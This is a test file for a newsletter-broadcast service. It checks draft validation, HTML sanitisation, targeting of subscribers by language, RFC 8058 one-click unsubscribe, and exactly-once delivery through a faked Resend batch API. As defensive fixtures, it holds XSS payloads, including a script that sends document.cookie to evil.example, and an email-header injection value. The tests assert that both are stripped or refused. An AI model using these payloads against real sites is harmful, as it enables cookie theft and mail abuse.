import { env } from "cloudflare:workers";
import { Hono } from "hono";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { parseConfig } from "#worker/config";
import { broadcastDraftSchema, type BroadcastDraft } from "#worker/contract/newsletter-broadcasts";
import { createDb } from "#worker/db/client";
import { createDevMailboxTransport } from "#worker/email/dev-mailbox-transport";
import { claimBatchStatement } from "#worker/email/outbox";
import { createResendTransport } from "#worker/email/resend-transport";
import { validate } from "#worker/middleware/validate";
import { verifyToken } from "#worker/services/signed-token";
import {
  broadcastCounts,
  broadcastProgress,
  createBroadcastDraft,
  deleteBroadcastDraft,
  getBroadcast,
  previewBroadcast,
  sendBroadcastTest,
  startBroadcast,
  unsubscribeToken,
  updateBroadcastDraft,
  type BroadcastContext,
} from "#worker/services/newsletter-broadcasts";
import { sendBroadcastBatches } from "#worker/services/newsletter-delivery";
import { runSweep } from "#worker/services/sweep";
import type { AppEnv } from "#worker/types";
import { ORIGIN, nextIp, request } from "../support/worker/http";
import { clearNewsletter, insertSubscribers, type SubscriberStatus } from "../support/worker/newsletter";

/**
 * The newsletter broadcasts engine (decision 040) on the real D1: drafts and their checks, the
 * sanitised HTML, who a send reaches, exactly-once delivery through a failing provider (a fake
 * Resend batch API behind an injected fetch: no test reaches the network), 50,000 subscribers,
 * RFC 8058 one-click unsubscribe, and a send that fails as a whole coming back as a draft.
 */

const db = createDb(env.DB);
const config = parseConfig(env as unknown as Record<string, unknown>);
const LOCAL_SECRET = config.signingSecret;
const AUTHOR = "author@example.com";

const ctx = (now = Date.now()): BroadcastContext => ({ db, config, origin: ORIGIN, now });

const DRAFT: BroadcastDraft = {
  locale: "es",
  subject: "Novedades de noviembre",
  markdown: "# Hola\n\nUn libro **nuevo** y una [canción](https://example.com/song).",
};

async function draft(input: Partial<BroadcastDraft> = {}) {
  const created = await createBroadcastDraft(ctx(), AUTHOR, { ...DRAFT, ...input });
  if (!created.ok) throw new Error(created.reason);
  return created.value;
}

async function rows<T>(sql: string, ...binds: unknown[]): Promise<T[]> {
  return (
    await env.DB.prepare(sql)
      .bind(...binds)
      .all<T>()
  ).results;
}

const mailbox = () =>
  rows<{ recipient: string; subject: string; text_body: string; html_body: string; headers: string }>(
    "SELECT recipient, subject, text_body, html_body, headers FROM dev_mailbox WHERE id LIKE 'newsletter_broadcast/%' ORDER BY recipient",
  );

beforeEach(async () => {
  // Rows outlive a test within a file: each test starts with no subscribers and no broadcasts.
  await clearNewsletter();
});

afterEach(() => {
  vi.restoreAllMocks();
});

describe("broadcast drafts", () => {
  /** The studio's routes validate with `validate()`, the same middleware and hook as every route. */
  const form = new Hono<AppEnv>().post("/", validate("json", broadcastDraftSchema), (c) => c.json(c.req.valid("json")));
  const submit = async (body: unknown) => {
    const res = await form.request("/", {
      method: "POST",
      body: JSON.stringify(body),
      headers: { "Content-Type": "application/json" },
    });
    return {
      status: res.status,
      body: await res.json<{ error?: { code: string; fields: Record<string, string[]> } }>(),
    };
  };

  it("refuses every bad field with a 400 and its code, and keeps a good draft as written", async () => {
    const cases: Array<[unknown, string, string]> = [
      [{ ...DRAFT, locale: "fr" }, "locale", "locale_invalid"],
      [{ ...DRAFT, locale: undefined }, "locale", "locale_invalid"],
      [{ ...DRAFT, subject: undefined }, "subject", "subject_required"],
      [{ ...DRAFT, subject: "   " }, "subject", "subject_required"],
      [{ ...DRAFT, subject: "\u200B" }, "subject", "subject_required"],
      [{ ...DRAFT, subject: "x".repeat(151) }, "subject", "subject_too_long"],
      [{ ...DRAFT, subject: "Hi\r\nBcc: everyone@example.com" }, "subject", "subject_invalid"],
      [{ ...DRAFT, markdown: undefined }, "markdown", "body_required"],
      [{ ...DRAFT, markdown: " \n\t " }, "markdown", "body_required"],
      [{ ...DRAFT, markdown: "x".repeat(50_001) }, "markdown", "body_too_long"],
      [{ ...DRAFT, markdown: 42 }, "markdown", "body_required"],
    ];
    for (const [body, field, code] of cases) {
      const res = await submit(body);
      expect(res.status, JSON.stringify(body).slice(0, 80)).toBe(400);
      expect(res.body.error?.code).toBe("validation_failed");
      expect(res.body.error?.fields[field], field).toContain(code);
    }
    const good = await submit({ ...DRAFT, subject: "  Novedades  " });
    expect(good.status).toBe(200);
    expect(good.body).toEqual({ ...DRAFT, subject: "Novedades" });
  });

  it("refuses a body that sanitises to nothing, and nothing is stored", async () => {
    const refused = await createBroadcastDraft(ctx(), AUTHOR, { ...DRAFT, markdown: "<script>alert(1)</script>" });
    expect(refused).toEqual({ ok: false, reason: "body_empty" });
    expect(await rows("SELECT id FROM newsletter_broadcasts")).toEqual([]);
  });

  it("creates, updates and deletes a draft; a broadcast that started sending is frozen", async () => {
    const created = await draft();
    expect(created).toMatchObject({
      status: "draft",
      locale: "es",
      subject: DRAFT.subject,
      createdBy: AUTHOR,
      lastError: null,
    });
    const updated = await updateBroadcastDraft(ctx(), created.id, { ...DRAFT, subject: "Otro asunto" });
    expect(updated.ok && updated.value.subject).toBe("Otro asunto");
    expect(await updateBroadcastDraft(ctx(), crypto.randomUUID(), DRAFT)).toEqual({ ok: false, reason: "not_found" });

    await insertSubscribers(["a@example.com", "es", "confirmed"]);
    expect((await startBroadcast(ctx(), created.id)).ok).toBe(true);
    expect(await updateBroadcastDraft(ctx(), created.id, DRAFT)).toEqual({ ok: false, reason: "not_draft" });
    expect(await deleteBroadcastDraft(ctx(), created.id)).toEqual({ ok: false, reason: "not_draft" });
    expect(await startBroadcast(ctx(), created.id)).toEqual({ ok: false, reason: "not_draft" });

    const other = await draft();
    expect(await deleteBroadcastDraft(ctx(), other.id)).toEqual({ ok: true, value: undefined });
    expect(await getBroadcast(ctx(), other.id)).toBeNull();
    expect(await deleteBroadcastDraft(ctx(), other.id)).toEqual({ ok: false, reason: "not_found" });
  });

  it("won't start a send with no confirmed subscriber of its language", async () => {
    await insertSubscribers(["en@example.com", "en", "confirmed"], ["pending@example.com", "ca", "pending"]);
    const ca = await draft({ locale: "ca" });
    expect(await startBroadcast(ctx(), ca.id)).toEqual({ ok: false, reason: "no_recipients" });
    expect((await getBroadcast(ctx(), ca.id))?.status).toBe("draft");
  });
});

describe("the broadcast's HTML", () => {
  const HOSTILE = [
    "Hola <script>fetch('https://evil.example/'+document.cookie)</script>",
    "",
    '<img src="https://example.com/cover.jpg" alt="Cover" onerror="alert(1)"> <a href="https://example.com" onclick="steal()">ok</a>',
    "",
    '[click](javascript:alert(1)) <a href="JaVaScRiPt:alert(2)">two</a> <a href="data:text/html,<b>x</b>">three</a>',
    "",
    '<iframe src="https://evil.example"></iframe><style>p{}</style><p style="position:fixed" onmouseover="x()">styled</p>',
    "",
    '<img src="http://example.com/tracker.gif" alt="plain http">',
  ].join("\n");

  it("keeps a single line break as the author typed it, in the mail and in its plain text", async () => {
    const b = await draft({ markdown: "Carrer del Mar, 12\n08003 Barcelona\n\nFins aviat" });
    const preview = await previewBroadcast(ctx(), b.id);
    if (!preview.ok) throw new Error(preview.reason);
    expect(preview.value.html).toMatch(/Carrer del Mar, 12<br ?\/?>\s*08003 Barcelona<\/p>/);
    expect(preview.value.text).toContain("Carrer del Mar, 12\n08003 Barcelona\n\nFins aviat");
  });

  it("keeps the writing and drops script, handlers, javascript: links, frames and styles, in the preview and the test mail", async () => {
    const b = await draft({ markdown: HOSTILE });
    const preview = await previewBroadcast(ctx(), b.id);
    if (!preview.ok) throw new Error(preview.reason);
    const body = preview.value.html.slice(preview.value.html.indexOf("<body"));
    expect(body).not.toMatch(/<script|<iframe|<style|\bon[a-z]+=|javascript:|data:text|position:fixed|evil\.example/i);
    expect(body).toContain('src="https://example.com/cover.jpg"');
    expect(body).toContain('alt="Cover"');
    expect(body).toContain('href="https://example.com"');
    expect(body).toContain(">click</a>");
    expect(body).not.toContain("http://example.com/tracker.gif");
    expect(preview.value.text).toContain("Hola");
    expect(preview.value.text).toContain("ok (https://example.com)");
    expect(preview.value.text).not.toMatch(/script|document\.cookie/);
    expect(preview.value.subject).toBe(DRAFT.subject);
    // In the broadcast's language, with the unsubscribe footer and link (a token for nobody).
    expect(preview.value.html).toContain('<html lang="es">');
    expect(preview.value.text).toMatch(
      /Darme de baja: http:\/\/127\.0\.0\.1:8787\/es\/newsletter\/unsubscribe\?token=\S+/,
    );

    const test = await sendBroadcastTest(ctx(), b.id, AUTHOR);
    if (!test.ok) throw new Error(test.reason);
    const [mail] = await rows<{ kind: string; recipient: string; html_body: string; headers: string }>(
      "SELECT kind, recipient, html_body, headers FROM email_outbox WHERE id = ?",
      test.value.outboxIds[0],
    );
    expect(mail).toMatchObject({ kind: "newsletter_test", recipient: AUTHOR });
    expect(mail!.html_body).toContain('alt="Cover"');
    expect(mail!.html_body).not.toMatch(/<script|onerror=|javascript:/i);
    expect(JSON.parse(mail!.headers)).toMatchObject({ "List-Unsubscribe-Post": "List-Unsubscribe=One-Click" });
  });
});

/** A fake Resend: `/emails/batch` with Idempotency-Key as Resend honours it, switchable failures. */
function fakeResend() {
  type Mode = "up" | "down" | "lost-answer" | "refuse";
  const state = {
    mode: "up" as Mode,
    /** Modes for the next calls, one each, before `mode` applies again. */
    plan: [] as Mode[],
    calls: 0,
    replays: 0,
    conflicts: 0,
    invalid: new Set<string>(),
  };
  /** Every message the provider took, one entry per send: a duplicate shows as a second entry. */
  const delivered: Array<{ to: string; headers: Record<string, string>; html: string; text: string }> = [];
  const seen = new Map<string, { payload: string; answer: unknown }>();
  const fetch = vi.fn<typeof globalThis.fetch>(async (input, init) => {
    const url = input instanceof Request ? input.url : String(input);
    expect(url).toBe("https://api.resend.com/emails/batch");
    state.calls++;
    const headers = new Headers(init?.headers);
    expect(headers.get("x-batch-validation")).toBe("permissive");
    const key = headers.get("Idempotency-Key")!;
    expect(key).toMatch(/^newsletter_broadcast\/[0-9a-f-]{36}\/[0-9a-f]{32}$/);
    const payload = String(init?.body);
    const emails = JSON.parse(payload) as Array<{
      to: string[];
      headers: Record<string, string>;
      html: string;
      text: string;
    }>;
    expect(emails.length).toBeLessThanOrEqual(100);
    const mode = state.plan.shift() ?? state.mode;
    if (mode === "down") return Response.json({ name: "internal_server_error", message: "down" }, { status: 500 });
    if (mode === "refuse")
      return Response.json({ name: "validation_error", message: "The domain is not verified" }, { status: 403 });
    const earlier = seen.get(key);
    if (earlier) {
      if (earlier.payload !== payload) {
        state.conflicts++;
        return Response.json({ name: "invalid_idempotent_request", message: "same key, other body" }, { status: 409 });
      }
      state.replays++;
      return Response.json(earlier.answer);
    }
    const data: Array<{ id: string }> = [];
    const errors: Array<{ index: number; message: string }> = [];
    emails.forEach((e, index) => {
      if (state.invalid.has(e.to[0]!)) errors.push({ index, message: "Invalid `to` field" });
      else {
        delivered.push({ to: e.to[0]!, headers: e.headers, html: e.html, text: e.text });
        data.push({ id: `re_${delivered.length}` });
      }
    });
    const answer = { data, errors };
    seen.set(key, { payload, answer });
    if (mode === "lost-answer") {
      // Taken, then the answer never comes: only the sender's timeout ends the call.
      return new Promise<Response>((_, reject) =>
        init?.signal?.addEventListener("abort", () => reject(init.signal!.reason)),
      );
    }
    return Response.json(answer);
  });
  const transport = createResendTransport("re_test_key", { fetch, timeoutMs: 50 });
  return { state, delivered, transport };
}

const perRecipient = (list: Array<{ to: string }>) => {
  const counts = new Map<string, number>();
  for (const { to } of list) counts.set(to, (counts.get(to) ?? 0) + 1);
  return counts;
};

describe("sending a broadcast", () => {
  it("reaches exactly the confirmed subscribers of its language, once each, with RFC 8058 headers and a working unsubscribe link", async () => {
    const ids = await insertSubscribers(
      ["ana@example.com", "es", "confirmed"],
      ["bea@example.com", "es", "confirmed"],
      ["gone@example.com", "es", "unsubscribed"],
      ["later@example.com", "es", "pending"],
      ["english@example.com", "en", "confirmed"],
      ["catala@example.com", "ca", "confirmed"],
    );
    const b = await draft();
    const started = await startBroadcast(ctx(), b.id);
    expect(started).toEqual({
      ok: true,
      value: { status: "sending", total: 2, enqueued: true, queued: 2, sent: 0, failed: 0, skipped: 0 },
    });

    const transport = createDevMailboxTransport(db);
    const report = await sendBroadcastBatches({ db, config, transport });
    expect(report).toMatchObject({ batches: 1, sent: 2, failed: 0, settled: [{ id: b.id, status: "sent" }] });
    // A second run (the cron) finds nothing to do and sends nothing again.
    expect(await sendBroadcastBatches({ db, config, transport })).toMatchObject({ batches: 0, sent: 0 });

    const mail = await mailbox();
    expect(mail.map((m) => m.recipient)).toEqual(["ana@example.com", "bea@example.com"]);
    for (const m of mail) {
      expect(m.subject).toBe(DRAFT.subject);
      const headers = JSON.parse(m.headers) as Record<string, string>;
      expect(headers["List-Unsubscribe-Post"]).toBe("List-Unsubscribe=One-Click");
      const oneClick = /^<(https?:\/\/[^>]+)>$/.exec(headers["List-Unsubscribe"]!)![1]!;
      const token = new URL(oneClick).searchParams.get("token")!;
      expect(await verifyToken(LOCAL_SECRET, token, "newsletter-unsubscribe")).toEqual({
        valid: true,
        subject: ids.get(m.recipient),
      });
      // The link in the body opens the Spanish page with the same token.
      expect(m.text_body).toContain(`/es/newsletter/unsubscribe?token=${token}`);
      expect(m.html_body).toContain(`href="${ORIGIN}/es/newsletter/unsubscribe?token=${token}"`);
      expect(m.html_body).toContain("<strong>nuevo</strong>");
      expect(m.text_body).toContain("Recibes este correo porque te suscribiste al boletín de Adrià Vidal.");
    }
    expect(await getBroadcast(ctx(), b.id)).toMatchObject({ status: "sent", lastError: null });
    expect(await broadcastCounts(db, b.id)).toEqual({ sent: 2, failed: 0, unsubscribedSince: 0 });
  });

  it("RFC 8058: the one-click POST unsubscribes without a cookie or page, even from a webmail's origin; the link's GET opens the page and changes nothing", async () => {
    await insertSubscribers(["ana@example.com", "es", "confirmed"], ["bea@example.com", "es", "confirmed"]);
    const b = await draft();
    await startBroadcast(ctx(), b.id);
    await sendBroadcastBatches({ db, config, transport: createDevMailboxTransport(db) });
    const [ana, bea] = await mailbox();
    const oneClickOf = (m: typeof ana) =>
      /^<(https?:\/\/[^>]+)>$/.exec((JSON.parse(m!.headers) as Record<string, string>)["List-Unsubscribe"]!)![1]!;
    const status = async (email: string) =>
      (await rows<{ status: string }>("SELECT status FROM newsletter_subscribers WHERE email = ?", email))[0]!.status;

    // The body's link: a GET opens the page (in Spanish) and unsubscribes nobody.
    const pageLink = /(https?:\/\/\S+\/es\/newsletter\/unsubscribe\?token=\S+)/.exec(ana!.text_body)![1]!;
    const page = await request(new URL(pageLink).pathname + new URL(pageLink).search, {
      headers: { Accept: "text/html" },
    });
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('lang="es"');
    expect(await status("ana@example.com")).toBe("confirmed");
    // A GET of the one-click URL changes nothing either.
    const url = new URL(oneClickOf(ana));
    await request(url.pathname + url.search);
    expect(await status("ana@example.com")).toBe("confirmed");

    // The mail provider's POST: no Origin, the RFC's form body.
    const oneClick = (m: typeof ana, headers: Record<string, string> = {}) => {
      const target = new URL(oneClickOf(m));
      return request(target.pathname + target.search, {
        method: "POST",
        headers: { "Content-Type": "application/x-www-form-urlencoded", "CF-Connecting-IP": nextIp(), ...headers },
        body: "List-Unsubscribe=One-Click",
      });
    };
    const res = await oneClick(ana);
    expect(res.status).toBe(200);
    expect(res.headers.get("Set-Cookie")).toBeNull();
    expect(await status("ana@example.com")).toBe("unsubscribed");
    // A webmail doing it from the reader's browser carries its own Origin: still one click.
    expect((await oneClick(bea, { Origin: "https://mail.example", "Sec-Fetch-Site": "cross-site" })).status).toBe(200);
    expect(await status("bea@example.com")).toBe("unsubscribed");

    // Without the RFC's body, another site's POST is still refused by the same-origin rule.
    await insertSubscribers(["cam@example.com", "es", "confirmed"]);
    const cam = (
      await rows<{ id: string }>("SELECT id FROM newsletter_subscribers WHERE email = 'cam@example.com'")
    )[0]!;
    const camUrl = new URL(oneClickOf(ana));
    camUrl.searchParams.set("token", await unsubscribeToken(LOCAL_SECRET, cam.id));
    const foreign = await request(camUrl.pathname + camUrl.search, {
      method: "POST",
      headers: {
        "Content-Type": "application/x-www-form-urlencoded",
        Origin: "https://evil.example",
        "CF-Connecting-IP": nextIp(),
      },
      body: "List-Unsubscribe=Something-Else",
    });
    expect(foreign.status).toBe(403);
    expect(await status("cam@example.com")).toBe("confirmed");

    expect(await broadcastCounts(db, b.id)).toEqual({ sent: 2, failed: 0, unsubscribedSince: 2 });
  });

  it("a subscriber who unsubscribes after the send started gets nothing if their batch has not gone", async () => {
    const ids = await insertSubscribers(
      ["ana@example.com", "es", "confirmed"],
      ["bea@example.com", "es", "confirmed"],
      ["cam@example.com", "es", "confirmed"],
    );
    const b = await draft();
    await startBroadcast(ctx(), b.id);
    // Bea leaves by the welcome's one-click link while the send is queued.
    const token = await unsubscribeToken(LOCAL_SECRET, ids.get("bea@example.com")!);
    const left = await request(`/api/newsletter/unsubscribe?token=${encodeURIComponent(token)}`, {
      method: "POST",
      headers: { "Content-Type": "application/x-www-form-urlencoded", "CF-Connecting-IP": nextIp() },
      body: "List-Unsubscribe=One-Click",
    });
    expect(left.status).toBe(200);

    const report = await sendBroadcastBatches({ db, config, transport: createDevMailboxTransport(db) });
    expect(report).toMatchObject({ sent: 2, skipped: 1 });
    expect((await mailbox()).map((m) => m.recipient)).toEqual(["ana@example.com", "cam@example.com"]);
    expect(await broadcastProgress(db, b.id)).toEqual({
      status: "sent",
      total: 3,
      enqueued: true,
      queued: 0,
      sent: 2,
      failed: 0,
      skipped: 1,
    });
    // No outbox row is left for her to be retried from.
    expect(await rows("SELECT recipient FROM email_outbox WHERE recipient = 'bea@example.com'")).toEqual([]);
  });

  it("exactly once through Resend's batch API when it fails midway (a lost answer, a 500) and the sweep resumes", async () => {
    vi.spyOn(console, "warn").mockImplementation(() => {});
    vi.spyOn(console, "log").mockImplementation(() => {});
    const fake = fakeResend();
    const people = Array.from({ length: 250 }, (_, i) => `reader-${String(i).padStart(3, "0")}@example.com`);
    await insertSubscribers(...people.map((p): [string, string, SubscriberStatus] => [p, "es", "confirmed"]), [
      "en@example.com",
      "en",
      "confirmed",
    ]);
    const b = await draft();
    const t0 = Date.now();
    await startBroadcast(ctx(t0), b.id);

    // 1. The first batch goes; the second is taken but its answer is lost; the provider is down for the third.
    fake.state.plan = ["up", "lost-answer", "down"];
    const paced = Date.now();
    const first = await sendBroadcastBatches({ db, config, transport: fake.transport }, { now: t0 });
    // Calls are spaced for Resend's default 2 requests a second.
    expect(Date.now() - paced).toBeGreaterThanOrEqual(2 * 550);
    expect(first).toMatchObject({ batches: 3, sent: 100, retrying: 150, failed: 0 });
    expect(fake.delivered).toHaveLength(200);
    expect(await broadcastProgress(db, b.id)).toMatchObject({ status: "sending", total: 250, queued: 150, sent: 100 });

    // 2. A sender that claimed the retries and died before calling out leaves them to the next.
    const { results: claimed } = await claimBatchStatement(
      db,
      (
        await rows<{ id: string }>(
          "SELECT id FROM newsletter_deliveries WHERE broadcast_id = ? AND state = 'queued'",
          b.id,
        )
      ).map((r) => r.id),
      t0 + 31_000,
    ).all();
    expect(claimed).toHaveLength(150);

    // 3. The provider is back; the cron sweep (the same runSweep) resumes once the claim runs out.
    fake.state.mode = "up";
    expect((await runSweep(config, db, { now: t0 + 60_000, transport: fake.transport })).newsletter.batches).toBe(0);
    const resumed = await runSweep(config, db, { now: t0 + 31_000 + 60_001, transport: fake.transport });
    expect(resumed.newsletter).toMatchObject({
      batches: 2,
      sent: 150,
      failed: 0,
      settled: [{ id: b.id, status: "sent" }],
    });

    // Every Spanish subscriber got exactly one message; the lost answer's batch was replayed, not resent.
    const counts = perRecipient(fake.delivered);
    expect(counts.size).toBe(250);
    expect([...counts.values()].every((n) => n === 1)).toBe(true);
    expect([...counts.keys()].sort()).toEqual(people);
    expect(fake.state).toMatchObject({ calls: 5, replays: 1, conflicts: 0 });
    expect(await broadcastCounts(db, b.id)).toEqual({ sent: 250, failed: 0, unsubscribedSince: 0 });
    expect(await rows("SELECT id FROM email_outbox WHERE kind = 'newsletter_broadcast' AND status <> 'sent'")).toEqual(
      [],
    );
  });

  it("an address the provider refuses fails alone; the rest of its batch goes", async () => {
    vi.spyOn(console, "error").mockImplementation(() => {});
    const fake = fakeResend();
    fake.state.invalid.add("broken@example.com");
    await insertSubscribers(
      ["ana@example.com", "es", "confirmed"],
      ["broken@example.com", "es", "confirmed"],
      ["cam@example.com", "es", "confirmed"],
    );
    const b = await draft();
    await startBroadcast(ctx(), b.id);
    const report = await sendBroadcastBatches({ db, config, transport: fake.transport });
    expect(report).toMatchObject({ batches: 1, sent: 2, failed: 1, retrying: 0 });
    expect(perRecipient(fake.delivered)).toEqual(
      new Map([
        ["ana@example.com", 1],
        ["cam@example.com", 1],
      ]),
    );
    const after = await getBroadcast(ctx(), b.id);
    expect(after?.status).toBe("sent");
    expect(after?.lastError).toMatch(/^1 failed: Resend refused it: Invalid `to` field/);
    expect(await broadcastCounts(db, b.id)).toEqual({ sent: 2, failed: 1, unsubscribedSince: 0 });
  });

  it("a call refused as a whole stops the broadcast for that run, though other batches' retries are due", async () => {
    vi.spyOn(console, "error").mockImplementation(() => {});
    vi.spyOn(console, "warn").mockImplementation(() => {});
    const fake = fakeResend();
    await insertSubscribers(
      ...Array.from({ length: 230 }, (_, i): [string, string, SubscriberStatus] => [
        `s${i}@example.com`,
        "es",
        "confirmed",
      ]),
    );
    const b = await draft();
    const t0 = Date.now();
    await startBroadcast(ctx(t0), b.id);
    // Two batches fail for now (retries at t0 + 30 s); the third goes.
    fake.state.plan = ["down", "down", "up"];
    expect(
      await sendBroadcastBatches({ db, config, transport: fake.transport }, { now: t0, callIntervalMs: 0 }),
    ).toMatchObject({
      batches: 3,
      sent: 30,
      retrying: 200,
    });
    // Then the key is revoked: the first retry is refused as a whole, and the run asks no more.
    fake.state.mode = "refuse";
    const later = { now: t0 + 31_000, callIntervalMs: 0 };
    expect(await sendBroadcastBatches({ db, config, transport: fake.transport }, later)).toMatchObject({
      batches: 1,
      failed: 100,
      settled: [],
    });
    expect(fake.state.calls).toBe(4);
    // The next run tries the other batch on its own, and the broadcast settles with what went.
    expect(await sendBroadcastBatches({ db, config, transport: fake.transport }, later)).toMatchObject({
      batches: 1,
      failed: 100,
      settled: [{ id: b.id, status: "sent" }],
    });
    expect(await broadcastCounts(db, b.id)).toEqual({ sent: 30, failed: 200, unsubscribedSince: 0 });
    expect((await getBroadcast(ctx(), b.id))?.lastError).toMatch(/^200 failed: Resend answered 403/);
  });

  it("a send the provider refuses as a whole comes back as a draft with its error, and can be sent again", async () => {
    vi.spyOn(console, "error").mockImplementation(() => {});
    const fake = fakeResend();
    fake.state.mode = "refuse";
    const people = Array.from({ length: 230 }, (_, i) => `r${i}@example.com`);
    await insertSubscribers(...people.map((p): [string, string, SubscriberStatus] => [p, "es", "confirmed"]));
    const b = await draft();
    await startBroadcast(ctx(), b.id);
    const report = await sendBroadcastBatches({ db, config, transport: fake.transport });
    // One call is enough to know: the other batches are never tried.
    expect(fake.state.calls).toBe(1);
    expect(report).toMatchObject({ batches: 1, sent: 0, failed: 230, settled: [{ id: b.id, status: "draft" }] });
    const back = await getBroadcast(ctx(), b.id);
    expect(back).toMatchObject({ status: "draft", subject: DRAFT.subject, markdown: DRAFT.markdown });
    expect(back?.lastError).toMatch(/403.*domain is not verified/);
    expect(await rows("SELECT id FROM newsletter_deliveries")).toEqual([]);
    expect(await rows("SELECT id FROM email_outbox")).toEqual([]);

    // Fixed: edited and sent again, it reaches everyone once.
    expect((await updateBroadcastDraft(ctx(), b.id, { ...DRAFT, subject: "Segundo intento" })).ok).toBe(true);
    fake.state.mode = "up";
    await startBroadcast(ctx(), b.id);
    expect(await sendBroadcastBatches({ db, config, transport: fake.transport })).toMatchObject({
      sent: 230,
      settled: [{ status: "sent" }],
    });
    expect(perRecipient(fake.delivered).size).toBe(230);
    expect(fake.delivered).toHaveLength(230);
    expect((await getBroadcast(ctx(), b.id))?.lastError).toBeNull();
  });
});
